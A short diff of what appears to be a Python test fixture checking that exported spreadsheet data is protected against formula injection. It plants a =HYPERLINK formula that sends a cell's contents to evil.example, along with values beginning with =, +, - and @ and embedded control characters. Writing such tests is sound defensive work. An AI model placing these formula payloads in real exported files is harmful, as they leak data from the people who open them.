@@ -18,7 +18,7 @@ from models.types import utcnow
 
 TEAM = "T111"
 FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
-PLANTED = {"title": FORMULA_TITLE, "customer": "+1 555 0100", "description": "@SUM(A1:A9)\x07 rang a bell\x00",
+PLANTED = {"title": FORMULA_TITLE, "customer": "+1 555 0100", "description": "@SUM(A1:A9)\x07 rang a bell\x1b",
            "process": "-Delivery"}
 NAMES = {"U_ALICE": "Alice Archer", "U_BOB": "=Bob", "U_MANAGER": "Mona Manager"}
 
